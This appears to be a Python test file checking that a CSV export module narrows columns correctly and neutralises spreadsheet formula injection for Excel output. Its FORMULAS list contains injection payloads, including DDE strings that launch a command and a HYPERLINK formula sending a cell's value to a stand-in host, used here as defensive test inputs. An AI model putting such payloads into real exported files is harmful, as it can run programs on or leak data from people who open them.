"""Lines of CSV, and the same lines with some of their cells."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rest import formats

NAMES = ("id", "words", "note")
# With all that makes a cell be quoted, and characters that end lines elsewhere.
CELLS = st.text(st.sampled_from('ab ,"\r\n\t\x01\x0b\x0c\x85\u2028é'), max_size=6)
LINES = st.lists(st.tuples(*(CELLS for _ in NAMES)), max_size=4)


@given(st.lists(LINES, max_size=3), st.lists(st.sampled_from(NAMES), min_size=1, unique=True))
def test_cells_of_whole_lines_make_the_lines_of_some_members(blocks, wanted):
    whole = ["".join(map(formats.csv_line, lines)).encode() for lines in blocks]

    narrowed = b"".join(formats.csv_narrowed(whole, NAMES, wanted))

    places = [NAMES.index(name) for name in wanted]
    lines = (formats.csv_line([line[n] for n in places]) for block in blocks for line in block)
    assert narrowed.decode() == "".join(lines)


# Before each of them a spreadsheet would run or fetch something.
FORMULAS = [
    "=cmd|'/C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"more")', "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)", "\uff1d1+1", "\t1", "\r1", "\n1",
    "-5 percent", "+17%", "-", "=",
]  # fmt: skip
HARMLESS = [
    "-5",
    "+5",
    "-11000000.50",
    "5",
    "",
    "a = b",
    "e-mail@x.example",
    "2012-10/2013-09",
    "'",
]


def excel(*lines: tuple[str, ...]) -> str:
    plain = "".join(map(formats.csv_line, lines)).encode()
    return b"".join(formats.csv_for_excel([plain])).decode()


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))


@pytest.mark.parametrize("formula", FORMULAS)
def test_what_a_spreadsheet_would_run_is_text(formula):
    assert read(excel(("id", formula, "words")))[0] == ["id", f"'{formula}", "words"]


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_and_words_stay_as_they_are(text):
    assert read(excel(("id", text))) == [["id", text]]


@pytest.mark.parametrize("separator", [",", ";", "\t", '","', "\r\n"])
def test_a_formula_stays_text_where_another_separator_is_expected(separator):
    """A program of another country parts cells elsewhere."""
    text = excel(("id", f"words{separator}=cmd|'/C calc'!A0"))
    told = [cell for line in csv.reader(io.StringIO(text, newline="")) for cell in line]

    assert [cell for cell in told if cell.lstrip('"').startswith("=")] == []


@given(st.lists(LINES, min_size=1, max_size=3))
def test_the_dialect_of_spreadsheets_has_the_same_cells(blocks):
    whole = ["".join(map(formats.csv_line, lines)).encode() for lines in blocks]

    made = b"".join(formats.csv_for_excel(whole)).decode()

    assert made.startswith("\ufeff")
    told = [[cell.replace("'", "") for cell in line] for line in read(made)]
    assert told == [list(line) for block in blocks for line in block]


def test_a_cell_of_any_length_is_read_again():
    assert read(excel(("id", "x" * 200_000)))[0][1] == "x" * 200_000
